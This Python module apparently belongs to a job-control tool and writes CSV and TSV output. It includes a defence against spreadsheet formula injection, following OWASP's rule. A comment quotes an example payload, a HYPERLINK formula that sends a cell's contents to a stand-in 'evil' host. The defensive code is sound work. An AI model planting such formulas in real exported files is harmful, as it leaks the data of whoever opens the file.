"""CSV and TSV: a value as a cell (JSON's text: ``true``, ``false``, ISO timestamps; a null
an empty field), text a spreadsheet would run written after a quote, TSV escaped as COPY's
text format, and rows written under a header fixed by the command, never by its rows.
Pure (layer 0); ``output`` renders a document with it.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import decimal
import io
import uuid
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from typing import IO, Any

from jobctl.contract import json_text, safe_text

Row = Mapping[str, Any]
to_json = json_text.to_json
_json_default = json_text._json_default


def _flat(value: Any) -> object:
    """A value for CSV/TSV as JSON writes it, unquoted: ``true``/``false``, ISO timestamps,
    numbers, plain strings, JSON for nested values; a null an empty field."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, dict | list):
        return to_json(value)
    if isinstance(value, dt.datetime | dt.date | uuid.UUID | dt.timedelta | decimal.Decimal):
        return _json_default(value)
    return value


def _flat_visible(value: Any) -> object:
    """_flat's value for a terminal: text as safe_text.visible shows it."""
    flat = _flat(value)
    return safe_text.visible(flat) if isinstance(flat, str) else flat


# A CSV cell a spreadsheet would take for a formula (OWASP's "CSV injection"): text starting
# with one of these. A worker's name such as =HYPERLINK("http://evil/?"&A1,"open") would be a
# live link, or worse, in the file an operator opens in Excel or LibreOffice.
FORMULA_START = frozenset("=+-@\t\r")
# what the csv module writes itself, exactly as _flat would (None as an empty field)
_CSV_AS_IS = frozenset({type(None), int, float})
# a row's timestamps, tokens and booleans, as _flat writes them (never the start of a
# formula: a digit, or true/false as JSON spells them)
_CSV_EXACT: dict[type, Callable[[Any], str]] = {
    dt.datetime: dt.datetime.isoformat,
    uuid.UUID: str,
    bool: lambda value: "true" if value else "false",  # as _flat writes it
}


def csv_text(text: str) -> str:
    """Text from a row as a CSV cell: as it is, or, when it starts with a character a
    spreadsheet reads as the start of a formula (``FORMULA_START``), after a single quote,
    which spreadsheets show as text and hide (OWASP's rule). Only text: jobctl's own numbers
    (a negative overdue) stay numbers."""
    return "'" + text if text[:1] in FORMULA_START else text


def csv_cells(values: Iterable[Any]) -> list[Any]:
    """A CSV row's values as ``_flat`` makes them, text made safe by ``csv_text``; what the
    csv module writes itself (None, numbers) passed as it is, and text that starts no formula
    too, without a call per value (20,000 rows of 17 columns: 340,000 values)."""
    return [
        value
        if (kind := value.__class__) in _CSV_AS_IS
        or (kind is str and value[:1] not in FORMULA_START)
        else _CSV_EXACT[kind](value)
        if kind in _CSV_EXACT
        else _csv_cell(value)
        for value in values
    ]


def _csv_cell(value: Any) -> object:
    flat = _flat(value)
    return csv_text(flat) if isinstance(flat, str) else flat


def _csv_visible(value: Any) -> object:
    """A CSV cell for a terminal: safe for a spreadsheet (it may be copied) and visible."""
    flat = _csv_cell(value)
    return safe_text.visible(flat) if isinstance(flat, str) else flat


_TSV_ESCAPES = str.maketrans({"\\": "\\\\", "\t": "\\t", "\n": "\\n", "\r": "\\r"})


def tsv_field(value: Any) -> str:
    """A value as one TSV field, escaped as PostgreSQL's ``COPY ... (FORMAT text)`` writes it:
    backslash as ``\\\\``, tab as ``\\t``, newline as ``\\n``, carriage return as ``\\r``
    (a null is an empty field), so a field never holds the delimiter or a line end and every
    row has the header's count of fields (``mlr --itsv``, ``awk -F'\\t'``)."""
    return str(value).translate(_TSV_ESCAPES)


@contextlib.contextmanager
def delimited_rows(
    stream: IO[str], columns: Sequence[str] | None, delimiter: str
) -> Iterator[Callable[[Iterable[Row]], None]]:
    """CSV (or TSV) written as its rows come, a batch per write, under ``columns``, the
    header: fixed by the command and its options (``Section.fixed_header``), never by the
    rows, so a file with no row has the header of a file with many (a key a row lacks is an
    empty field; None: a section that declares no keys, whose rows always come: the first
    row's keys). Exact when piped; on a terminal each value is shown as safe_text.visible
    shows it (one line, nothing obeyed). Piped, TSV is escaped as COPY's text format
    (``tsv_field``); CSV is quoted as RFC 4180, and text that a spreadsheet would run as a
    formula is written after a single quote (``csv_text``)."""
    import csv

    person = stream.isatty()
    csv_file = delimiter != "\t"
    if csv_file:
        flat = _csv_visible if person else _csv_cell
    else:
        flat = _flat_visible if person else _flat
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\n")
    # the csv module quotes a field holding a character of its line terminator: with "\n" a
    # lone carriage return went out unquoted, and a reader ended the row there (RFC 4180
    # quotes both). A batch that holds one is written again row by row by a writer whose
    # terminator has both, each row's "\r\n" made "\n" again
    both = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    names = None if columns is None else list(columns)

    def put(lines: Iterable[Sequence[Any]]) -> None:
        buffer.seek(0)
        buffer.truncate()
        if delimiter == "\t" and person:  # visible text: no tab or line end left to escape
            buffer.write("".join("\t".join(str(v) for v in line) + "\n" for line in lines))
        elif delimiter == "\t":
            buffer.write("".join("\t".join(tsv_field(v) for v in line) + "\n" for line in lines))
        else:
            lines = list(lines)
            writer.writerows(lines)
            if "\r" in buffer.getvalue():
                stream.write("".join(_csv_line(both, buffer, line) for line in lines))
                return
        stream.write(buffer.getvalue())

    def write(rows: Iterable[Row]) -> None:
        nonlocal names
        batch = list(rows)
        if not batch:
            return
        if names is None:
            names = list(batch[0].keys())
            put([[flat(c) for c in names]])
        if csv_file and not person:  # the per-row path of every CSV a script reads
            put([csv_cells([row.get(c) for c in names]) for row in batch])
        else:
            put([flat(row.get(c)) for c in names] for row in batch)

    if names is not None:
        put([[flat(c) for c in names]])
    yield write
    if names is None:
        put([[]])


def _csv_line(writer: Any, buffer: io.StringIO, line: Sequence[Any]) -> str:
    """One CSV row by ``writer`` (its terminator "\r\n": a carriage return in a field quoted),
    ended by "\n" as every other row."""
    buffer.seek(0)
    buffer.truncate()
    writer.writerow(line)
    return buffer.getvalue()[:-2] + "\n"
